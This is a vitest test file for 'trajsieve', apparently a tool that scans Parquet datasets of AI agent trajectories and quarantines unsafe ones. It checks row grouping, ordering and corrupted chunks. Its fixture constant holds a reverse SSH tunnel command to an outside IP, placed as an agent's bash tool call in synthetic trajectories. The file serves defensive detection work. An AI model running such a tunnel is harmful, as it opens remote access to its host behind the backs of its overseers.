import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parquetWriteBuffer } from 'hyparquet-writer';
import { describe, expect, test } from 'vitest';
import { readRows } from '../../src/output/read-rows.ts';
import { packagePath } from '../../src/package-path.ts';
import { readFooter } from '../../src/parquet/footer.ts';
import { openFile } from '../../src/parquet/source.ts';
import { temporaryFolder } from '../support/temporary.ts';
import { hashesOf, trajsieve } from '../support/trajsieve.ts';

interface StepRow {
  readonly trajectory_id: string;
  readonly step: number;
  readonly role: string;
  readonly content: string;
  readonly tool_calls: string;
}

const unsafe = 'ssh -fN -R 2222:localhost:22 me@203.0.113.9';

/** A trajectory of five rows; with `command` its fourth runs that. */
function trajectory(id: string, command = 'ls -la'): StepRow[] {
  const call = (text: string) =>
    JSON.stringify([
      { id: 'c', type: 'function', function: { name: 'bash', arguments: JSON.stringify({ command: text }) } },
    ]);
  const row = (step: number, role: string, content: string, calls = '[]') => ({
    trajectory_id: id,
    step,
    role,
    content,
    tool_calls: calls,
  });
  return [
    row(0, 'system', 'You have a shell.'),
    row(1, 'user', 'Tidy up the project.'),
    row(2, 'assistant', 'Looking.', call('git status')),
    row(3, 'assistant', 'Going on.', call(command)),
    row(4, 'tool', 'done'),
  ];
}

function write(rows: readonly StepRow[], rowGroupSize: number): string {
  const file = join(temporaryFolder(), 'steps.parquet');
  const text = (name: keyof StepRow) => ({
    name,
    data: rows.map((row) => row[name]),
    type: 'STRING' as const,
  });
  const columnData = [
    text('trajectory_id'),
    { name: 'step', data: rows.map(({ step }) => step), type: 'INT32' as const },
    text('role'),
    text('content'),
    text('tool_calls'),
  ];
  writeFileSync(file, new Uint8Array(parquetWriteBuffer({ columnData, rowGroupSize })));
  return file;
}

function run(file: string, ...more: string[]) {
  const out = join(temporaryFolder(), 'out');
  const classifiers = packagePath('classifiers/tunnels');
  const result = trajsieve([
    'run',
    file,
    '--out',
    out,
    '--json',
    '-q',
    '--classifiers',
    classifiers,
    ...more,
  ]);
  return { out, result, rows: result.status === 0 ? JSON.parse(result.stdout).rows : undefined };
}

async function rowsOf(file: string, ...names: string[]): Promise<Record<string, unknown>[]> {
  const rows = [];
  for await (const row of readRows(file, names)) rows.push({ ...row });
  return rows;
}

const shard = 'train-00000-of-00001.parquet';

describe('one step a row', { timeout: 300_000 }, () => {
  const rows = ['a', 'b', 'c', 'd'].flatMap((id) => trajectory(id, id === 'b' ? unsafe : undefined));

  // row groups of 7 rows cut b in two, and c
  test.each([[7], [2], [100]])(
    'a verdict is of all rows of its trajectory, in row groups of %d',
    async (size) => {
      const { out, result, rows: account } = run(write(rows, size));
      expect(result.stderr).toBe('');
      expect(account).toMatchObject({ in: 20, kept: 15, quarantined: 5, unreadable: 0 });
      const ids = await rowsOf(
        join(out, 'quarantine', shard),
        'trajectory_id',
        'step',
        'trajsieve_row',
        'trajsieve_verdict',
      );
      expect(ids.map((row) => [row['trajectory_id'], row['step'], Number(row['trajsieve_row'])])).toEqual(
        [0, 1, 2, 3, 4].map((step) => ['b', step, 5 + step]),
      );
      expect(new Set(ids.map((row) => row['trajsieve_verdict']))).toEqual(new Set(['unsafe']));
      const findings = await rowsOf(join(out, 'findings', shard), 'row', 'step');
      expect(findings.length).toBeGreaterThan(0);
      for (const finding of findings) expect([Number(finding['row']), finding['step']]).toEqual([8, 3]);
      expect(trajsieve(['verify', out]).status).toBe(0);
    },
  );

  test('is the same without the prefilter', () => {
    const file = write(rows, 7);
    const shards = (out: string) =>
      Object.fromEntries(
        Object.entries(hashesOf(out)).filter(([path]) => /^(data|quarantine|findings)/.test(path)),
      );
    expect(shards(run(file, '--no-prefilter').out)).toEqual(shards(run(file).out));
  });

  test('steps are taken in the order of their column, and findings tell the row that they are of', async () => {
    const b = trajectory('b', unsafe);
    const { out } = run(write([...trajectory('a'), b[4]!, b[3]!, b[2]!, b[1]!, b[0]!], 4));
    const findings = await rowsOf(join(out, 'findings', shard), 'row', 'step');
    expect(findings.length).toBeGreaterThan(0);
    for (const finding of findings) expect([Number(finding['row']), finding['step']]).toEqual([6, 3]);
  });

  test('a trajectory whose rows lie apart is an error that names it, and nothing is committed', () => {
    const [first, ...others] = trajectory('b', unsafe);
    const { result, out } = run(write([first!, ...trajectory('a'), ...others], 4));
    expect(result.status).not.toBe(0);
    expect(result.stderr).toMatch(
      /rows of trajectory "b" do not lie together.*row 6.*sort the file by trajectory_id/,
    );
    expect(Object.keys(hashesOf(out)).filter((path) => path.startsWith('ledger/'))).toEqual([]);
  });

  test('what lies beside a row group that cannot be read is not taken for whole', async () => {
    const file = write(rows, 7);
    const source = openFile(file);
    const { start, end } = (await readFooter(source)).rowGroups[1]!.chunks[3]!;
    source.close();
    const bytes = readFileSync(file);
    bytes.fill(0xff, start, end);
    writeFileSync(file, bytes);
    const { out } = run(file);
    const report = JSON.parse(readFileSync(join(out, 'report.json'), 'utf8'));
    // a and d are whole, b and c lost steps
    expect(report.rows).toMatchObject({ in: 20, kept: 10, quarantined: 3, unreadable: 7 });
    expect(trajsieve(['verify', out]).stdout).toMatch(/20 rows in/);
  });
});
